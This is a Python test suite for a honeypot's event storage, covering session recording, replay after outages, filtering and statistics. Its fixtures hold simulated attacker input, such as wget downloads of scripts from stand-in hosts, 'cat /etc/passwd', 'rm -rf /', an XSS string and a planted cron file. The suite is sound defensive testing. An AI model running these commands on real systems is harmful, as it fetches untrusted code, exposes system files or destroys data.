"""The storage suite: events in through DatabaseSink, rows out through Repository.

It runs on whatever database the ``db_url`` fixture names: SQLite in a temporary directory for the
unit tests (test_storage_sqlite.py), SQLite and a real PostgreSQL in tests/integration/test_storage.py.
Each test gets an empty database.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from alembic.autogenerate import compare_metadata
from alembic.migration import MigrationContext

from sandtrap import events as ev
from sandtrap.events import CATALOGUE, Event, EventBus, cowrie_dict
from sandtrap.outputs.database import DatabaseSink
from sandtrap.outputs.jsonlog import JsonLogSink
from sandtrap.storage.engine import make_engine
from sandtrap.storage.migrate import current, head, is_migrated, upgrade
from sandtrap.storage.models import Base
from sandtrap.storage.repository import Repository

T0 = datetime(2026, 1, 2, 3, 0, 0, tzinfo=UTC)
SHA_UPLOAD = "a" * 64
SHA_CHANGED = "b" * 64
SHA_CAST = "c" * 64


# -- fixtures -------------------------------------------------------------------------------------------------
@pytest.fixture
def url(db_url: str) -> str:
    """The test's database, migrated."""
    upgrade(db_url)
    return db_url


@pytest.fixture
def repo(url: str) -> Iterator[Repository]:
    r = Repository(url)
    try:
        yield r
    finally:
        r.close()


@pytest.fixture
def make_sink() -> Iterator[Callable[..., DatabaseSink]]:
    made: list[DatabaseSink] = []

    def make(url: str, **kw: Any) -> DatabaseSink:
        kw.setdefault("retry_min_s", 0.02)
        kw.setdefault("retry_max_s", 0.2)
        sink = DatabaseSink(url, **kw)
        made.append(sink)
        return sink

    try:
        yield make
    finally:
        for sink in made:
            sink.close(timeout_s=2.0)


@pytest.fixture
def store(url: str, make_sink: Callable[..., DatabaseSink]) -> Callable[[list[Event]], DatabaseSink]:
    """Write events through one DatabaseSink and wait until they are stored."""
    sinks: list[DatabaseSink] = []

    def write(events: list[Event]) -> DatabaseSink:
        if not sinks:
            sinks.append(make_sink(url))
        for event in events:
            sinks[0].write(event)
        assert sinks[0].flush(30), sinks[0].status()
        return sinks[0]

    return write


def wait_until(check: Callable[[], bool], timeout_s: float = 20.0) -> None:
    deadline = time.monotonic() + timeout_s
    while not check():
        assert time.monotonic() < deadline, "condition not met in time"
        time.sleep(0.01)


# -- building events --------------------------------------------------------------------------------------------
class Conn:
    """Events of one connection, each a second (or ``after_s``) after the previous one."""

    def __init__(
        self, session: str, src_ip: str = "203.0.113.7", start: datetime = T0, sensor: str = "sensor-1"
    ) -> None:
        self.session, self.src_ip, self.sensor, self.t = session, src_ip, sensor, start

    def __call__(self, eventid: str, after_s: float = 1.0, **fields: Any) -> Event:
        assert eventid in CATALOGUE, eventid
        self.t += timedelta(seconds=after_s)
        return Event(
            eventid=eventid,
            timestamp=self.t,
            session=self.session,
            src_ip=self.src_ip,
            src_port=50022,
            dst_ip="192.0.2.1",
            dst_port=22,
            sensor=self.sensor,
            **fields,
        )


def full_session(session: str = "0123456789ab") -> list[Event]:
    c = Conn(session)
    key: dict[str, Any] = {
        "username": "root",
        "fingerprint": "3f:2a:11:00:aa:bb:cc:dd:ee:ff:00:11:22:33:44:55",
        "fingerprint_sha256": "SHA256:abcdefghijklmnop",
        "key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE attacker@box",
        "type": "ssh-ed25519",
    }
    cast = f"casts/{session}-0.cast"
    return [
        c(ev.SESSION_CONNECT, after_s=0),
        c(ev.CLIENT_VERSION, version="SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6"),
        c(
            ev.CLIENT_KEX,
            hassh="ec7378c1a92f5a8dde7e8b7a1ddf33d1",
            hasshAlgorithms="curve25519-sha256;aes128-ctr;hmac-sha2-256;none",
            kexAlgs=["curve25519-sha256"],
            keyAlgs=["ssh-ed25519"],
            encCS=["aes128-ctr"],
            macCS=["hmac-sha2-256"],
            compCS=["none"],
            langCS=[],
        ),
        c(ev.LOGIN_FAILED, username="root", password="123456", method="password", reason="wrong"),
        c(ev.CLIENT_FINGERPRINT, **key),
        c(ev.LOGIN_FAILED, method="publickey", **key),
        c(ev.LOGIN_SUCCESS, username="admin", password="admin", method="password", reason="credential"),
        c(ev.SANDBOX_ASSIGNED, sandbox_id="c0ffee123456", sandbox_name="sandtrap-warm-1", acquire_ms=12.5),
        c(ev.CHANNEL_OPEN, channel=0),
        c(ev.CHANNEL_PTY, channel=0, term="xterm", width=80, height=24),
        c(ev.LOG_OPEN, ttylog=cast, channel=0),
        c(ev.CHANNEL_SHELL, channel=0),
        c(ev.COMMAND_INPUT, input="uname -a", channel=0),
        c(ev.COMMAND_INPUT, input="cat /etc/passwd", channel=0),
        c(ev.CHANNEL_OPEN, channel=1),
        c(ev.CHANNEL_EXEC, channel=1, input="wget http://198.51.100.9/x.sh"),
        c(ev.COMMAND_INPUT, input="wget http://198.51.100.9/x.sh", channel=1),
        c(
            ev.SESSION_FILE_UPLOAD,
            filename="/tmp/x.sh",
            outfile=f"artifacts/{SHA_UPLOAD}",
            shasum=SHA_UPLOAD,
            size=42,
            via="sftp",
            stored=True,
        ),
        c(ev.CHANNEL_CLOSED, channel=1, bytes_in=100, bytes_out=200),
        c(
            ev.SESSION_FILE_CHANGED,
            filename="/etc/cron.d/evil",
            kind="added",
            shasum=SHA_CHANGED,
            size=10,
            mode=0o644,
            outfile=None,
            stored=False,
        ),
        c(ev.LOG_CLOSED, ttylog=cast, channel=0, size=4096, shasum=SHA_CAST, duration="9.0", duration_ms=9000),
        c(ev.CHANNEL_CLOSED, channel=0, bytes_in=300, bytes_out=900),
        c(ev.SESSION_CLOSED, duration="23.4", duration_ms=23400, reason="client_closed", bytes_in=310, bytes_out=910),
        c(ev.SANDBOX_RELEASED, sandbox_id="c0ffee123456", sandbox_name="sandtrap-warm-1"),
    ]


def at(seconds: float) -> datetime:
    return T0 + timedelta(seconds=seconds)


# -- the suite ----------------------------------------------------------------------------------------------------
def test_full_session_reads_back(store: Callable[[list[Event]], DatabaseSink], repo: Repository) -> None:
    events = full_session()
    sink = store(events)
    assert (sink.stored, sink.duplicates, sink.rejected, sink.errors, sink.pending) == (len(events), 0, 0, 0, 0)

    s = repo.get_session("0123456789ab")
    assert s is not None
    assert (s.sensor, s.protocol, s.src_ip, s.src_port, s.dst_ip, s.dst_port) == (
        "sensor-1",
        "ssh",
        "203.0.113.7",
        50022,
        "192.0.2.1",
        22,
    )
    assert s.started_at == T0
    assert s.ended_at == at(22) and s.duration_ms == 23400 and s.close_reason == "client_closed"
    assert s.client_version == "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6"
    assert s.hassh == "ec7378c1a92f5a8dde7e8b7a1ddf33d1"
    assert s.hassh_algorithms == "curve25519-sha256;aes128-ctr;hmac-sha2-256;none"
    assert (s.key_type, s.key_fingerprint) == ("ssh-ed25519", "3f:2a:11:00:aa:bb:cc:dd:ee:ff:00:11:22:33:44:55")
    assert (s.username, s.login_success) == ("admin", True)
    assert (s.auth_attempts_count, s.commands_count, s.artifacts_count) == (3, 3, 2)
    assert (s.sandbox_id, s.sandbox_name) == ("c0ffee123456", "sandtrap-warm-1")
    assert (s.bytes_in, s.bytes_out) == (310, 910)

    a = s.auth_attempts
    assert [(x.username, x.password, x.method, x.success) for x in a] == [
        ("root", "123456", "password", False),
        ("root", None, "publickey", False),
        ("admin", "admin", "password", True),
    ]
    assert [x.timestamp for x in a] == [at(3), at(5), at(6)]
    assert (a[1].key_type, a[1].fingerprint, a[1].fingerprint_sha256) == (
        "ssh-ed25519",
        "3f:2a:11:00:aa:bb:cc:dd:ee:ff:00:11:22:33:44:55",
        "SHA256:abcdefghijklmnop",
    )
    assert a[1].key == "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE attacker@box"
    assert a[0].key is None and a[0].fingerprint is None

    assert [(x.input, x.channel, x.source, x.timestamp) for x in s.commands] == [
        ("uname -a", 0, "tty", at(12)),
        ("cat /etc/passwd", 0, "tty", at(13)),
        ("wget http://198.51.100.9/x.sh", 1, "exec", at(16)),
    ]
    up, changed = s.artifacts
    assert (up.path, up.sha256, up.size, up.via, up.stored, up.outfile, up.timestamp) == (
        "/tmp/x.sh",
        SHA_UPLOAD,
        42,
        "sftp",
        True,
        f"artifacts/{SHA_UPLOAD}",
        at(17),
    )
    assert (changed.path, changed.sha256, changed.size, changed.mode, changed.via, changed.kind) == (
        "/etc/cron.d/evil",
        SHA_CHANGED,
        10,
        "0644",
        "changed",
        "added",
    )
    assert (changed.stored, changed.outfile) == (False, None)
    (cast,) = s.casts
    assert (cast.path, cast.channel, cast.size, cast.sha256, cast.opened_at, cast.closed_at) == (
        "casts/0123456789ab-0.cast",
        0,
        4096,
        SHA_CAST,
        at(10),
        at(20),
    )
    assert s.sandbox is not None
    assert (s.sandbox.id, s.sandbox.name, s.sandbox.session, s.sandbox.src_ip, s.sandbox.state) == (
        "c0ffee123456",
        "sandtrap-warm-1",
        "0123456789ab",
        "203.0.113.7",
        "released",
    )
    assert (s.sandbox.acquired_at, s.sandbox.released_at) == (at(7), at(23))

    stored = repo.events("0123456789ab")
    assert [e.event_id for e in stored] == [e.event_id for e in events]
    assert [e.data for e in stored] == [cowrie_dict(e) for e in events]
    assert stored[0].data["timestamp"] == "2026-01-02T03:00:00.000000Z"
    assert [e.eventid for e in repo.events("0123456789ab", eventid=ev.COMMAND_INPUT)] == [ev.COMMAND_INPUT] * 3
    assert repo.get_session("ffffffffffff") is None
    assert repo.list_sessions()[0].model_dump() == s.model_dump(
        exclude={"auth_attempts", "commands", "artifacts", "casts", "sandbox"}
    )


def test_replayed_events_are_skipped(url: str, make_sink: Callable[..., DatabaseSink], repo: Repository) -> None:
    events = full_session()
    sink = make_sink(url, batch_size=7)
    for event in [*events, *events[:5], events[3]]:  # duplicates across and within batches
        sink.write(event)
    assert sink.flush(30)
    again = make_sink(url)
    for event in reversed(events):
        again.write(event)
    assert again.flush(30)
    assert (sink.stored, sink.duplicates, again.stored, again.duplicates) == (len(events), 6, 0, len(events))
    s = repo.get_session("0123456789ab")
    assert s is not None
    assert (s.auth_attempts_count, s.commands_count, s.artifacts_count) == (3, 3, 2)
    assert (len(s.auth_attempts), len(s.commands), len(s.artifacts), len(s.casts)) == (3, 3, 2, 1)
    assert len(repo.events("0123456789ab")) == len(events)


def test_events_out_of_order_make_a_stub_then_fill_it(
    store: Callable[[list[Event]], DatabaseSink], repo: Repository
) -> None:
    c = Conn("00000000000a")
    connect = c(ev.SESSION_CONNECT, after_s=0)
    command = c(ev.COMMAND_INPUT, input="id", channel=0)
    store([command])
    stub = repo.get_session("00000000000a")
    assert stub is not None and stub.started_at == at(1) and stub.commands_count == 1
    store([connect])
    s = repo.get_session("00000000000a")
    assert s is not None and s.started_at == T0 and s.src_ip == "203.0.113.7" and s.commands_count == 1


def test_attacker_strings_are_stored_as_given_except_nul_and_bad_utf8(
    store: Callable[[list[Event]], DatabaseSink], repo: Repository
) -> None:
    c = Conn("00000000000b")
    invalid = b"\xff\xfepw".decode("utf-8", "surrogateescape")  # what a raw byte password decodes to
    huge = "A" * (1 << 20) + "\x00tail"
    long_name = "é" * 3000  # past PostgreSQL's btree entry limit: must still store and be found
    sink = store(
        [
            c(ev.SESSION_CONNECT, after_s=0),
            c(ev.CLIENT_VERSION, version="SSH-2.0-\x1b[31mred\x1b[0m 🐍"),
            c(ev.LOGIN_FAILED, username="ro\x00ot", password=invalid, method="password"),
            c(ev.LOGIN_SUCCESS, username=long_name, password="p" * 5000, method="password"),
            c(ev.COMMAND_INPUT, input=huge, channel=0),
            c(ev.COMMAND_INPUT, input="echo '<script>alert(1)</script>'; rm -rf / #\u202e", channel=0),
            c(ev.LOG_OPEN, ttylog="casts/\x00evil", channel=0),
        ]
    )
    assert (sink.rejected, sink.errors) == (0, 0)
    s = repo.get_session("00000000000b")
    assert s is not None
    assert s.client_version == "SSH-2.0-\x1b[31mred\x1b[0m 🐍"  # escaping is the display's job
    assert [(a.username, a.password) for a in s.auth_attempts] == [
        ("ro\ufffdot", "\ufffd\ufffdpw"),
        (long_name, "p" * 5000),
    ]
    assert s.username == long_name
    assert s.commands[0].input == "A" * (1 << 20) + "\ufffdtail"
    assert s.commands[1].input == "echo '<script>alert(1)</script>'; rm -rf / #\u202e"
    assert s.casts[0].path == "casts/\ufffdevil"
    login = repo.events("00000000000b", eventid=ev.LOGIN_FAILED)[0]
    assert (login.data["username"], login.data["password"]) == ("ro\ufffdot", "\ufffd\ufffdpw")
    # A filter value is cleaned the same way, so it finds what was stored.
    assert [x.id for x in repo.list_sessions(username=long_name)] == ["00000000000b"]
    assert [x.id for x in repo.list_sessions(command="\x00tail")] == ["00000000000b"]
    assert [x.id for x in repo.list_sessions(command="<SCRIPT>")] == ["00000000000b"]


def test_deleted_files_and_casts_as_the_bridge_reports_them(
    store: Callable[[list[Event]], DatabaseSink], repo: Repository
) -> None:
    c = Conn("00000000000f")
    store(
        [
            c(ev.SESSION_CONNECT, after_s=0),
            c(ev.LOG_OPEN, ttylog="casts/00000000000f/0.cast", channel=0),
            c(
                ev.SESSION_FILE_CHANGED,
                filename="/var/log/auth.log",
                kind="D",
                shasum="",
                size=0,
                mode=0,
                outfile="",
                stored=False,
            ),
            c(ev.SESSION_FILE_UPLOAD, filename="/tmp/big", outfile="", shasum="", size=10**10, via="scp", stored=False),
            c(ev.LOG_CLOSED, ttylog="/data/casts/00000000000f/0.cast", channel=0, size=10, shasum=SHA_CAST),
            c(ev.LOG_CLOSED, ttylog="casts/00000000000f/1.cast", channel=1, size=0, shasum=""),
        ]
    )
    s = repo.get_session("00000000000f")
    assert s is not None
    deleted, big = s.artifacts
    assert (deleted.kind, deleted.sha256, deleted.mode, deleted.outfile, deleted.stored) == (
        "D",
        None,
        "0000",
        None,
        False,
    )
    assert (big.via, big.size, big.sha256, big.outfile, big.stored) == ("scp", 10**10, None, None, False)
    assert (deleted.origin, big.origin) == (None, None)  # reported before origins were
    assert [(x.channel, x.path, x.size, x.sha256, x.opened_at, x.closed_at) for x in s.casts] == [
        (0, "/data/casts/00000000000f/0.cast", 10, SHA_CAST, at(1), at(4)),
        (1, "casts/00000000000f/1.cast", 0, None, None, at(5)),
    ]


def test_changed_files_keep_their_origin_and_only_the_attackers_count(
    store: Callable[[list[Event]], DatabaseSink], repo: Repository
) -> None:
    c = Conn("00000000000e")
    changed = {"kind": "C", "shasum": "", "size": 1, "mode": "0644", "outfile": "", "stored": False}
    store(
        [
            c(ev.SESSION_CONNECT, after_s=0),
            c(ev.SESSION_FILE_CHANGED, filename="/tmp/b.sh", origin="attacker", **changed),
            c(ev.SESSION_FILE_CHANGED, filename="/var/log/wtmp", origin="login", **changed),
            c(ev.SESSION_FILE_CHANGED, filename="/var/log/nginx/access.log", origin="system", **changed),
        ]
    )
    s = repo.get_session("00000000000e")
    assert s is not None
    assert [(a.path, a.origin) for a in s.artifacts] == [
        ("/tmp/b.sh", "attacker"),
        ("/var/log/wtmp", "login"),
        ("/var/log/nginx/access.log", "system"),
    ]
    assert s.artifacts_count == 1
    d = Conn("00000000001d")
    store(
        [d(ev.SESSION_CONNECT, after_s=0), d(ev.SESSION_FILE_CHANGED, filename="/run/utmp", origin="login", **changed)]
    )
    assert "00000000001d" in {x.id for x in repo.list_sessions(has_artifacts=False)}
    assert "00000000001d" not in {x.id for x in repo.list_sessions(has_artifacts=True)}
    assert "00000000000e" in {x.id for x in repo.list_sessions(has_artifacts=True)}


def test_close_crashed_sessions(store: Callable[[list[Event]], DatabaseSink], repo: Repository) -> None:
    open1 = Conn("00000000000c")
    closed = Conn("00000000000d")
    other_sensor = Conn("00000000000e", sensor="sensor-2")
    connect = open1(ev.SESSION_CONNECT, after_s=0)
    late_close = open1(ev.SESSION_CLOSED, after_s=5, duration_ms=5000, reason="client_closed")
    store(
        [
            connect,
            closed(ev.SESSION_CONNECT, after_s=0),
            closed(ev.SESSION_CLOSED, duration_ms=1000, reason="client_closed"),
            other_sensor(ev.SESSION_CONNECT, after_s=0),
        ]
    )
    now = T0 + timedelta(hours=1)
    assert repo.close_crashed_sessions(now, sensor="sensor-1") == ["00000000000c"]
    s = repo.get_session("00000000000c")
    assert s is not None
    # Ended when it was last heard of (its last event, the connect here), not at the restart.
    assert (s.ended_at, s.close_reason, s.duration_ms) == (connect.timestamp, "crash", 0)
    d = repo.get_session("00000000000d")
    assert d is not None and (d.close_reason, d.duration_ms) == ("client_closed", 1000)
    assert repo.close_crashed_sessions(now, sensor="sensor-1") == []

    # The start-up emits sandtrap.session.crashed for each: storing it changes nothing more.
    store([Event(eventid=ev.SESSION_CRASHED, session="00000000000c", timestamp=now + timedelta(seconds=1))])
    s2 = repo.get_session("00000000000c")
    assert s2 is not None and (s2.ended_at, s2.close_reason) == (connect.timestamp, "crash")
    # A crashed session of a sensor without close: the event closes it.
    store([Event(eventid=ev.SESSION_CRASHED, session="00000000000e", timestamp=now, reason="crash")])
    e = repo.get_session("00000000000e")
    assert e is not None and (e.ended_at, e.close_reason, e.duration_ms) == (now, "crash", 3_600_000)
    # The real close found later in the JSON log wins.
    store([late_close])
    s3 = repo.get_session("00000000000c")
    assert s3 is not None and (s3.ended_at, s3.close_reason, s3.duration_ms) == (at(5), "client_closed", 5000)
    assert repo.close_crashed_sessions(now) == []


def _attempts(c: Conn, pairs: list[tuple[str, str]]) -> list[Event]:
    return [c(ev.LOGIN_FAILED, username=u, password=p, method="password") for u, p in pairs]


def test_stats_are_ranked_by_count_then_value(store: Callable[[list[Event]], DatabaseSink], repo: Repository) -> None:
    a = Conn("0000000000a1", src_ip="198.51.100.1", start=T0)
    b = Conn("0000000000a2", src_ip="198.51.100.2", start=T0 + timedelta(minutes=30))
    c = Conn("0000000000a3", src_ip="198.51.100.1", start=T0 + timedelta(hours=2, minutes=5))
    store(
        [
            a(ev.SESSION_CONNECT, after_s=0),
            a(ev.CLIENT_VERSION, version="SSH-2.0-Go"),
            *_attempts(a, [("root", "123456"), ("root", "123456"), ("admin", "admin")]),
            a(ev.COMMAND_INPUT, input="ls", channel=0),
            a(ev.COMMAND_INPUT, input="uname", channel=0),
            b(ev.SESSION_CONNECT, after_s=0),
            b(ev.CLIENT_VERSION, version="SSH-2.0-libssh_0.9.6"),
            *_attempts(b, [("admin", "1234"), ("admin", "admin"), ("root", "toor")]),
            b(ev.COMMAND_INPUT, input="ls", channel=0),
            b(ev.COMMAND_INPUT, input="id", channel=0),
            c(ev.SESSION_CONNECT, after_s=0),
            c(ev.CLIENT_VERSION, version="SSH-2.0-Go"),
            c(ev.CLIENT_FINGERPRINT, username="git", fingerprint="aa", key="ssh-rsa AAA", type="ssh-rsa"),
            c(ev.LOGIN_FAILED, username="git", method="publickey", fingerprint="aa", key="ssh-rsa AAA", type="ssh-rsa"),
            c(ev.COMMAND_INPUT, input="ls", channel=0),
            c(ev.COMMAND_INPUT, input="uname", channel=0),
            c(ev.COMMAND_INPUT, input="id", channel=0),
        ]
    )
    st = repo.stats(top=10)
    assert (st.sessions, st.auth_attempts, st.commands, st.artifacts) == (3, 7, 7, 0)
    assert [(x.value, x.count) for x in st.top_usernames] == [("admin", 3), ("root", 3), ("git", 1)]
    assert [(x.value, x.count) for x in st.top_passwords] == [("123456", 2), ("admin", 2), ("1234", 1), ("toor", 1)]
    assert [(x.username, x.password, x.count) for x in st.top_pairs] == [
        ("admin", "admin", 2),
        ("root", "123456", 2),
        ("admin", "1234", 1),
        ("root", "toor", 1),
    ]
    assert [(x.value, x.count) for x in st.top_src_ips] == [("198.51.100.1", 2), ("198.51.100.2", 1)]
    assert [(x.value, x.count) for x in st.top_commands] == [("ls", 3), ("id", 2), ("uname", 2)]
    assert [(x.value, x.count) for x in st.top_client_versions] == [("SSH-2.0-Go", 2), ("SSH-2.0-libssh_0.9.6", 1)]
    assert [(x.hour, x.count) for x in st.sessions_per_hour] == [(T0, 2), (T0 + timedelta(hours=2), 1)]

    top1 = repo.stats(top=1, hours=1)
    assert [x.value for x in top1.top_usernames] == ["admin"]
    assert [(x.username, x.password) for x in top1.top_pairs] == [("admin", "admin")]
    assert [(x.hour, x.count) for x in top1.sessions_per_hour] == [(T0 + timedelta(hours=2), 1)]

    late = repo.stats(since=T0 + timedelta(hours=1))
    assert (late.sessions, late.auth_attempts, late.commands) == (1, 1, 3)
    assert [x.value for x in late.top_usernames] == ["git"] and late.top_passwords == []
    early = repo.stats(until=T0 + timedelta(hours=1))
    assert (early.sessions, early.commands) == (2, 4)


def test_list_sessions_filters(store: Callable[[list[Event]], DatabaseSink], repo: Repository) -> None:
    a = Conn("0000000000b1", src_ip="198.51.100.1", start=T0)
    b = Conn("0000000000b2", src_ip="198.51.100.2", start=T0 + timedelta(hours=1))
    c = Conn("0000000000b3", src_ip="198.51.100.1", start=T0 + timedelta(hours=2))
    store(
        [
            a(ev.SESSION_CONNECT, after_s=0),
            a(ev.LOGIN_SUCCESS, username="root", password="x", method="password"),
            a(ev.COMMAND_INPUT, input="wget http://evil/50%_OFF.sh", channel=0),
            a(ev.SESSION_FILE_UPLOAD, filename="/tmp/a", shasum=SHA_UPLOAD, size=1, via="scp", stored=True),
            a(ev.SESSION_CLOSED, duration_ms=90_000, reason="client_closed"),
            b(ev.SESSION_CONNECT, after_s=0),
            b(ev.LOGIN_SUCCESS, username="admin", password="admin", method="password"),
            b(ev.SESSION_CLOSED, duration_ms=5_000, reason="client_closed"),
            c(ev.SESSION_CONNECT, after_s=0),
            c(ev.LOGIN_FAILED, username="root", password="no", method="password"),
        ]
    )

    def ids(**kw: Any) -> list[str]:
        found = [s.id for s in repo.list_sessions(**kw)]
        filters = {k: v for k, v in kw.items() if k not in ("limit", "offset", "sort")}
        if "limit" not in kw and "offset" not in kw:
            assert repo.count_sessions(**filters) == len(found)
        return found

    assert ids() == ["0000000000b3", "0000000000b2", "0000000000b1"]
    assert ids(sort="started_at") == ["0000000000b1", "0000000000b2", "0000000000b3"]
    assert ids(sort="-duration_ms") == ["0000000000b1", "0000000000b2", "0000000000b3"]  # open session last
    assert ids(sort="duration_ms") == ["0000000000b2", "0000000000b1", "0000000000b3"]
    assert ids(sort="-commands_count") == ["0000000000b1", "0000000000b3", "0000000000b2"]
    assert ids(limit=1, offset=1) == ["0000000000b2"]
    assert ids(limit=0) == []
    assert ids(src_ip="198.51.100.1") == ["0000000000b3", "0000000000b1"]
    assert ids(username="root") == ["0000000000b1"]  # the last successful login, not attempts
    assert ids(username="nobody") == []
    assert ids(since=T0 + timedelta(hours=1)) == ["0000000000b3", "0000000000b2"]
    assert ids(until=T0 + timedelta(hours=1)) == ["0000000000b1"]
    assert ids(since=T0 + timedelta(minutes=30), until=T0 + timedelta(minutes=90)) == ["0000000000b2"]
    assert ids(command="50%_off") == ["0000000000b1"]  # case-insensitive; % and _ taken literally
    assert ids(command="50x_off") == [] and ids(command="%") == ["0000000000b1"]
    assert ids(command="_") == ["0000000000b1"] and ids(command="\\") == []
    assert ids(has_commands=True) == ["0000000000b1"]
    assert ids(has_commands=False) == ["0000000000b3", "0000000000b2"]
    assert ids(has_artifacts=True) == ["0000000000b1"]
    assert ids(has_artifacts=False) == ["0000000000b3", "0000000000b2"]
    assert ids(src_ip="198.51.100.1", has_commands=False) == ["0000000000b3"]
    naive = datetime(2026, 1, 2, 4, 0, 0)  # naive datetimes are taken as UTC
    assert ids(since=naive) == ["0000000000b3", "0000000000b2"]


def test_a_refused_event_does_not_hold_up_its_batch(
    url: str, make_sink: Callable[..., DatabaseSink], repo: Repository
) -> None:
    c = Conn("0000000000c1")
    poisoned = c(ev.COMMAND_INPUT, input="ls", channel=0, extra=object())  # cannot be serialised
    sink = make_sink(url)
    for event in [c(ev.SESSION_CONNECT, after_s=0), poisoned, c(ev.COMMAND_INPUT, input="id", channel=0)]:
        sink.write(event)
    assert sink.flush(30)
    assert (sink.stored, sink.rejected, sink.errors, sink.is_down) == (2, 1, 0, False)
    s = repo.get_session("0000000000c1")
    assert s is not None and [x.input for x in s.commands] == ["id"]
    assert not repo.has_event(poisoned.event_id)


def test_outage_buffers_then_spills_to_the_json_log_and_replays_it(
    db_url: str, make_sink: Callable[..., DatabaseSink], tmp_path: Path
) -> None:
    """An unmigrated database stands in for an outage: every write fails until the schema is there."""
    jsonlog = JsonLogSink(tmp_path / "log", rotate_bytes=2048)  # small: the spill crosses rotations
    sink = make_sink(db_url, buffer_events=4, jsonlog=jsonlog)
    bus = EventBus()
    bus.add_sink(jsonlog)
    bus.add_sink(sink)
    events = full_session("0000000000d1") + full_session("0000000000d2")
    for event in events[:10]:
        bus.emit(event)
    wait_until(lambda: sink.errors >= 2)
    assert bus.sink_errors == 0
    # Memory is bounded: the buffer (and the event that found it full); the rest is in the JSON log only.
    assert (sink.pending, sink.spilled, sink.dropped, sink.stored, sink.is_down) == (5, 5, 0, 0, True)
    assert sink.status()["spilling"] is True and sink.backlog == 5
    assert sink.last_error

    upgrade(db_url)
    assert sink.flush(30), sink.status()
    assert not sink.is_down and sink.pending == 0 and sink.backlog == 0
    assert sink.replayed == 5 and sink.stored == 10
    # The replay read to the log's end: the next event closes the spill and is queued again.
    bus.emit(events[10])
    assert sink.flush(30), sink.status()
    assert not sink.status()["spilling"] and sink.catch_ups == 1, sink.status()
    for event in events[11:]:  # a burst past the buffer with the database up: spills and replays again
        bus.emit(event)
    assert sink.flush(30), sink.status()
    assert sink.backlog == 0 and sink.spilled > 5, sink.status()
    assert len(list((tmp_path / "log").glob("sandtrap.json.*"))) >= 1
    jsonlog.close()
    with Repository(db_url) as repo:
        for sid, part in (("0000000000d1", events[: len(events) // 2]), ("0000000000d2", events[len(events) // 2 :])):
            assert [e.event_id for e in repo.events(sid)] == [e.event_id for e in part]
        s = repo.get_session("0000000000d1")
        assert s is not None and s.auth_attempts_count == 3 and s.started_at == T0
    assert sink.stored == len(events)


def test_a_long_outage_with_a_trickle_of_events_keeps_the_queue_bounded(
    db_url: str, make_sink: Callable[..., DatabaseSink], tmp_path: Path
) -> None:
    """The replay reaches the log's end between events while the database is still down: the spill stays open."""
    jsonlog = JsonLogSink(tmp_path / "log")
    sink = make_sink(db_url, buffer_events=4, jsonlog=jsonlog)
    bus = EventBus()
    bus.add_sink(jsonlog)
    bus.add_sink(sink)
    events = full_session("0000000000d4")
    for event in events[:5]:
        bus.emit(event)
    wait_until(lambda: sink.errors >= 2)
    for event in events[5:]:
        time.sleep(0.15)  # the writer looks at the log's end in between
        bus.emit(event)
        assert sink.pending <= 5, sink.status()
    assert sink.spilled == len(events) - 5 and sink.status()["spilling"]
    upgrade(db_url)
    assert sink.flush(30), sink.status()
    with Repository(db_url) as repo:
        assert [e.event_id for e in repo.events("0000000000d4")] == [e.event_id for e in events]
    jsonlog.close()


def test_outage_without_a_json_log_drops_the_oldest(
    db_url: str, make_sink: Callable[..., DatabaseSink], tmp_path: Path
) -> None:
    sink = make_sink(db_url, buffer_events=4)
    for event in full_session("0000000000d3")[:10]:
        sink.write(event)
    wait_until(lambda: sink.errors >= 2)
    assert (sink.pending, sink.dropped, sink.spilled) == (4, 6, 0) and not sink.status()["spilling"]


def test_catch_up_from_jsonlog(
    url: str, make_sink: Callable[..., DatabaseSink], repo: Repository, tmp_path: Path
) -> None:
    events = full_session("0000000000e1") + full_session("0000000000e2")
    jsonlog = JsonLogSink(tmp_path / "log", rotate_bytes=4096)  # small: several rotated files
    for event in events:
        jsonlog.write(event)
    jsonlog.close()
    with (tmp_path / "log" / "sandtrap.json").open("a") as f:
        f.write('{"eventid": "cut short", "sess\nnot json\n')
    assert len(list((tmp_path / "log").glob("sandtrap.json.*"))) >= 2

    sink = make_sink(url)
    later = datetime.now(UTC) + timedelta(hours=1)
    assert sink.catch_up_from_jsonlog(tmp_path / "log" / "sandtrap.json", since=later) == 0  # files too old
    for event in events[:5]:
        sink.write(event)
    assert sink.flush(30)
    assert sink.catch_up_from_jsonlog(tmp_path / "log" / "sandtrap.json") == len(events) - 5
    assert sink.catch_up_from_jsonlog(tmp_path / "log" / "sandtrap.json") == 0
    assert sink.catch_up_from_jsonlog(tmp_path / "missing" / "sandtrap.json") == 0
    assert [e.event_id for e in repo.events("0000000000e2")] == [e.event_id for e in events[len(events) // 2 :]]
    s = repo.get_session("0000000000e1")
    assert s is not None and (s.commands_count, s.close_reason) == (3, "client_closed")


def test_migrations_are_idempotent_and_match_the_models(db_url: str) -> None:
    assert current(db_url) is None and not is_migrated(db_url)
    upgrade(db_url)
    upgrade(db_url)
    assert current(db_url) == head() and is_migrated(db_url)
    engine = make_engine(db_url)
    try:
        with engine.connect() as conn:
            diff = compare_metadata(MigrationContext.configure(conn, opts={"compare_type": True}), Base.metadata)
    finally:
        engine.dispose()
    assert diff == []


# -- services (issue 17): a session names its listener; filters and per-service counts ------------------------
def test_sessions_by_service_and_protocol(repo: Repository, store: Callable[[list[Event]], DatabaseSink]) -> None:
    telnet = Conn("aaaaaaaaaaa1")
    http = Conn("aaaaaaaaaaa2")
    ssh = Conn("aaaaaaaaaaa3")
    store(
        [
            telnet(ev.SESSION_CONNECT, after_s=0, protocol="telnet", service="telnet"),
            http(ev.SESSION_CONNECT, after_s=0, protocol="tcp", service="http"),
            http(ev.SESSION_CLOSED, duration="1.0", duration_ms=1000, reason="client_closed", protocol="tcp",
                 service="http"),
            ssh(ev.SESSION_CONNECT, after_s=0),  # an event from before services: no service field
        ]
    )  # fmt: skip
    assert [s.id for s in repo.list_sessions(service="http")] == ["aaaaaaaaaaa2"]
    assert [s.service for s in repo.list_sessions(protocol="telnet")] == ["telnet"]
    assert repo.count_sessions(protocol="ssh") == 1 and repo.list_sessions(protocol="ssh")[0].service == "ssh"
    per_service = {c.value: c.count for c in repo.stats().sessions_per_service}
    assert per_service == {"telnet": 1, "http": 1, "ssh": 1}


